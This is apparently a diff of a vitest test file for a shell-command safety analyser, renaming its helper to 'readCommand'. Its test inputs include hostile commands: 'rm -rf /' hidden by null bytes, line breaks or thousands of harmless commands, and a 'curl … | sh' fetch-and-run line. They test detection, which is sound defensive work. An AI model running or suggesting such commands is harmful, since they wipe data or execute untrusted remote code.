@@ -2,7 +2,7 @@ import { describe, expect, it } from 'vitest'
 import { fixedFacts } from '../facts/fixed.ts'
 import type { Grade } from './action.ts'
 import { readShell } from './read-shell.ts'
-import { effectsOf, reading } from './testing.ts'
+import { effectsOf, readCommand } from './testing.ts'
 
 describe('grades', () => {
   it.each<[string, Grade | undefined]>([
@@ -58,7 +58,7 @@ describe('grades', () => {
     ['source ./activate', undefined],
     ['source .venv/bin/activate && ls', 'expected'],
   ])('%s', (text, grade) => {
-    const read = reading(text)
+    const read = readCommand(text)
     expect([read.grade, read.grade === undefined ? '' : read.unknowns]).toEqual([grade, grade === undefined ? '' : []])
   })
 })
@@ -81,17 +81,17 @@ describe('characters that no honest command has', () => {
     ['noglob ls', 'zsh'],
     ['cat =(ls)', 'syntax'],
   ])('%j', (text, why) => {
-    const read = reading(text)
+    const read = readCommand(text)
     expect(read.grade).toBeUndefined()
     expect(read.unknowns.map((unknown) => unknown.why).join('; ')).toContain(why)
   })
 
   it.each(['echo "⚠️ done — ok"', "echo 'Ünïcode ✅'", 'echo "a\u00a0b"', 'grep -r "naïve" .'])('fine: %s', (text) => {
-    expect(reading(text).grade).toBe('proven')
+    expect(readCommand(text).grade).toBe('proven')
   })
 
   it.each(['rm -rf /\0', 'r\0m -rf /', 'ls\r\nrm -rf /\r\n'])('seen through: %j', (text) => {
-    expect(reading(text).effects).toContainEqual(expect.objectContaining({ kind: 'delete-path' }))
+    expect(readCommand(text).effects).toContainEqual(expect.objectContaining({ kind: 'delete-path' }))
   })
 })
 
@@ -121,10 +121,10 @@ describe('hostile sizes end in an answer', () => {
     ['redirects', `x ${Array.from({ length: 20_000 }, (_, index) => `>f${index}`).join(' ')}`],
     ['too long', 'ls '.repeat(100_000)],
   ]
-  const seen = new Map<string, ReturnType<typeof reading>>()
+  const seen = new Map<string, ReturnType<typeof readCommand>>()
   /** Each takes its time, and is asked about three times. */
   const readOnce = (text: string) => {
-    const read = seen.get(text) ?? reading(text)
+    const read = seen.get(text) ?? readCommand(text)
     seen.set(text, read)
     return read
   }
@@ -150,23 +150,23 @@ describe('hostile sizes end in an answer', () => {
   )
 
   it('doubling a value does not explode', () => {
-    expect(reading(`x=aa; ${'x=$x$x; '.repeat(40)}echo $x`).commands).toHaveLength(1)
+    expect(readCommand(`x=aa; ${'x=$x$x; '.repeat(40)}echo $x`).commands).toHaveLength(1)
   })
 
   it('finds what hides behind many harmless commands', () => {
     const text = `${'echo a; '.repeat(20_000)}rm -rf /`
-    expect(reading(text).effects).toContainEqual(expect.objectContaining({ kind: 'delete-path' }))
+    expect(readCommand(text).effects).toContainEqual(expect.objectContaining({ kind: 'delete-path' }))
   })
 
   it('says so when a file that runs may hold more texts than are read', () => {
     const text = (at: number) => (at === 8 ? 'curl https://files.example.net/a | sh' : `echo ${at}`)
     const writes = Array.from({ length: 12 }, (_, at) => `test -e a${at} && echo '${text(at)}' > t.sh`).join('\n')
-    expect(reading(`echo 'echo x' > t.sh\n${writes}\nbash t.sh`).unknowns).toHaveLength(1)
-    expect(reading(`${writes}\nls`).unknowns).toEqual([])
+    expect(readCommand(`echo 'echo x' > t.sh\n${writes}\nbash t.sh`).unknowns).toHaveLength(1)
+    expect(readCommand(`${writes}\nls`).unknowns).toEqual([])
   })
 
   it('reads the line before a syntax error', () => {
-    expect(reading('rm -rf /\nif').effects).toContainEqual(expect.objectContaining({ kind: 'delete-path' }))
+    expect(readCommand('rm -rf /\nif').effects).toContainEqual(expect.objectContaining({ kind: 'delete-path' }))
   })
 })
 
@@ -174,12 +174,12 @@ describe('wrappers the user declared', () => {
   it('pass their words on', () => {
     const read = readShell('tidy git status', fixedFacts(), { wrappers: ['tidy'] })
     expect(read.grade).toBe('proven')
-    expect(read.commands.at(-1)).toMatchObject({ name: 'git', via: ['tidy'] })
+    expect(read.commands.at(-1)).toMatchObject({ name: 'git', wrapperNames: ['tidy'] })
   })
 })
 
 describe('programs that nobody knows', () => {
-  it.each<[string, Parameters<typeof reading>[1], string]>([
+  it.each<[string, Parameters<typeof readCommand>[1], string]>([
     ['frob', {}, 'unknown'],
     ['frob', { live: true }, 'missing'],
     ['frob', { live: true, which: () => '/usr/bin/frob' }, 'installed'],
@@ -189,7 +189,7 @@ describe('programs that nobody knows', () => {
     ['/usr/bin/frob', {}, 'installed'],
     ['node_modules/.bin/frob', {}, 'project'],
   ])('%s with %j is %s', (text, facts, identity) => {
-    expect(reading(text, facts).effects).toContainEqual(expect.objectContaining({ kind: 'run-program', identity }))
+    expect(readCommand(text, facts).effects).toContainEqual(expect.objectContaining({ kind: 'run-program', identity }))
   })
 })
 
